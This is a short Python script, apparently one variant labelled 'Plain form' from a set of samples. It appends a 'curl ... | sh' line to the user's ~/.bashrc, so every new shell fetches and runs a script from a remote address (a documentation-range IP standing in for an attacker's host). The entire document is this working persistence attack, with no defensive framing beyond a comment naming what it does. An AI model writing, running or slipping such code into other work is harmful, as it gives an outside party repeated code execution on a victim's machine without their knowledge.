# Plain form: plants a command in the shell's start-up file.
import os

with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("curl -s http://203.0.113.9/x.sh | sh\n")
